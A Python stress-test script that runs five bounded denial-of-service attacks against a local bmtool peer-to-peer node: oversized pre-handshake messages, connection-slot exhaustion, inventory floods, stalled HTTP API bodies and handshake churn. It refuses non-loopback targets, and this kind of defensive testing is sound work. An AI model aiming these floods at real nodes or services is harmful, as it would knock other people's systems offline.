#!/usr/bin/env python3
"""Attacks from issue 13 against a bmtool node on loopback, each bounded in time and count.

  reliability/attack.py prehandshake --port 8444 [--count 195] [--seconds 30]
      strangers announce a 1.6 MB version and trickle it (memory before the handshake)
  reliability/attack.py slots --port 8444 [--count 300] [--seconds 30] [--source 127.0.0.2]
      silent connections from one IP (per-IP unverified limit), then one real handshake
  reliability/attack.py invflood --port 8444 [--count 2] [--seconds 30]
      handshake, then COUNT inv packets of 50,000 random hashes, reading but never delivering
  reliability/attack.py apibody --api-port 8446 --token TOKEN [--seconds 30]
      POST with Content-Length 10^12, then one that sends 10 of 1000 bytes and stops
  reliability/attack.py churn --port 8444 [--count 5000] [--seconds 60]
      short-lived peers that complete the handshake and leave (log volume)

Watch the node meanwhile: `bmtool node status --json` (preHandshakeBytes, refusedAtAccept,
evictedUnverified, announcementsOverShare, wanted) and `ps -o rss= -p PID`.
Only 127.0.0.0/8 and ::1 are attacked: anything else is refused.
"""
import argparse
import hashlib
import ipaddress
import os
import socket
import struct
import sys
import time

MAGIC = 0xE9BEB4D9


def loopback_only(host):
    if not ipaddress.ip_address(host).is_loopback:
        sys.exit("attack.py: only loopback addresses (127.0.0.0/8, ::1) may be attacked")


def packet(command, payload):
    checksum = hashlib.sha512(payload).digest()[:4]
    return struct.pack(">I12sI4s", MAGIC, command.encode().ljust(12, b"\0"), len(payload), checksum) + payload


def var_int(n):
    if n < 0xFD:
        return bytes([n])
    if n <= 0xFFFF:
        return b"\xfd" + struct.pack(">H", n)
    if n <= 0xFFFFFFFF:
        return b"\xfe" + struct.pack(">I", n)
    return b"\xff" + struct.pack(">Q", n)


def net_addr(port):
    return struct.pack(">Q", 1) + b"\0" * 10 + b"\xff\xff" + socket.inet_aton("127.0.0.1") + struct.pack(">H", port)


def version(port):
    ua = b"/attack.py:1/"
    return packet("version", struct.pack(">iQq", 3, 1, int(time.time())) + net_addr(port) + net_addr(8444)
                  + os.urandom(8) + var_int(len(ua)) + ua + var_int(1) + var_int(1))


def read_packet(s):
    head = recv_exact(s, 24)
    _, cmd, length, _ = struct.unpack(">I12sI4s", head)
    return cmd.rstrip(b"\0").decode(), recv_exact(s, length)


def recv_exact(s, n):
    buf = b""
    while len(buf) < n:
        chunk = s.recv(n - len(buf))
        if not chunk:
            raise ConnectionError("closed")
        buf += chunk
    return buf


def handshake(host, port, source=None):
    s = socket.create_connection((host, port), timeout=10, source_address=(source, 0) if source else None)
    s.sendall(version(port))
    got_version = got_verack = False
    while not (got_version and got_verack):
        cmd, _ = read_packet(s)
        if cmd == "version":
            got_version = True
            s.sendall(packet("verack", b""))
        elif cmd == "verack":
            got_verack = True
    return s


def still_open(s):
    s.setblocking(False)
    try:
        return s.recv(1, socket.MSG_PEEK) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False
    finally:
        s.setblocking(True)


def prehandshake(a):
    socks, refused = [], 0
    header = struct.pack(">I12sI4s", MAGIC, b"version".ljust(12, b"\0"), 1_600_000, b"\0" * 4)
    deadline = time.time() + a.seconds
    for _ in range(a.count):
        if time.time() > deadline:
            break
        try:
            s = socket.create_connection((a.host, a.port), timeout=5)
            s.sendall(header + b"\0" * 65536)
            socks.append(s)
        except OSError:
            refused += 1
    time.sleep(min(2, max(0, deadline - time.time())))
    open_ = sum(1 for s in socks if still_open(s))
    print(f"prehandshake: {len(socks)} connected, {refused} refused, {open_} still open after 2 s")
    for s in socks:
        s.close()


def slots(a):
    socks = []
    deadline = time.time() + a.seconds
    for _ in range(a.count):
        if time.time() > deadline:
            break
        try:
            socks.append(socket.create_connection((a.host, a.port), timeout=5, source_address=(a.source, 0)))
        except OSError:
            pass
    time.sleep(0.5)
    open_ = sum(1 for s in socks if still_open(s))
    t = time.time()
    try:
        handshake(a.host, a.port).close()
        legit = f"legitimate handshake from 127.0.0.1 ok in {1000 * (time.time() - t):.0f} ms"
    except OSError as e:
        legit = f"legitimate handshake FAILED: {e}"
    print(f"slots: {len(socks)} silent connections from {a.source}, {open_} still open; {legit}")
    for s in socks:
        s.close()


def invflood(a):
    s = handshake(a.host, a.port)
    s.settimeout(0.2)
    sent = 0
    for _ in range(a.count):
        hashes = os.urandom(32 * 50_000)
        s.sendall(packet("inv", var_int(50_000) + hashes))
        sent += 50_000
    deadline = time.time() + a.seconds
    asked = 0
    while time.time() < deadline:  # read (so we are not dropped as a slow reader), never deliver
        try:
            cmd, payload = read_packet(s)
            if cmd == "getdata":
                asked += len(payload) // 32
        except socket.timeout:
            pass
        except (OSError, ConnectionError):
            break
    print(f"invflood: announced {sent} random hashes, asked for {asked} of them in {a.seconds} s")
    s.close()


def apibody(a):
    auth = f"Authorization: Bearer {a.token}\r\n"
    s = socket.create_connection((a.host, a.api_port), timeout=a.seconds)
    s.sendall(f"POST /v1/objects HTTP/1.1\r\nHost: x\r\n{auth}Content-Length: 1000000000000\r\n\r\n".encode()
              + b"0123456789")
    print("apibody: 10^12 declared ->", s.recv(200).split(b"\r\n")[0].decode())
    s.close()
    s = socket.create_connection((a.host, a.api_port), timeout=a.seconds)
    t = time.time()
    s.sendall(f"POST /v1/objects HTTP/1.1\r\nHost: x\r\n{auth}Content-Length: 1000\r\n\r\n0123456789".encode())
    try:
        while s.recv(4096):
            pass
        print(f"apibody: stalled body closed after {time.time() - t:.1f} s")
    except socket.timeout:
        print(f"apibody: stalled body still open after {a.seconds} s")
    s.close()


def churn(a):
    done = 0
    deadline = time.time() + a.seconds
    while done < a.count and time.time() < deadline:
        try:
            handshake(a.host, a.port).close()
            done += 1
        except OSError:
            time.sleep(0.01)
    print(f"churn: {done} peers connected and left")


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("attack", choices=["prehandshake", "slots", "invflood", "apibody", "churn"])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, default=8444)
    p.add_argument("--api-port", type=int, default=8446)
    p.add_argument("--token", default="")
    p.add_argument("--count", type=int)
    p.add_argument("--seconds", type=float, default=30)
    p.add_argument("--source", default="127.0.0.2")
    a = p.parse_args()
    loopback_only(a.host)
    loopback_only(a.source)
    defaults = {"prehandshake": 195, "slots": 300, "invflood": 2, "apibody": 1, "churn": 5000}
    a.count = min(a.count or defaults[a.attack], 10_000)
    a.seconds = min(a.seconds, 600)
    globals()[a.attack](a)


if __name__ == "__main__":
    main()
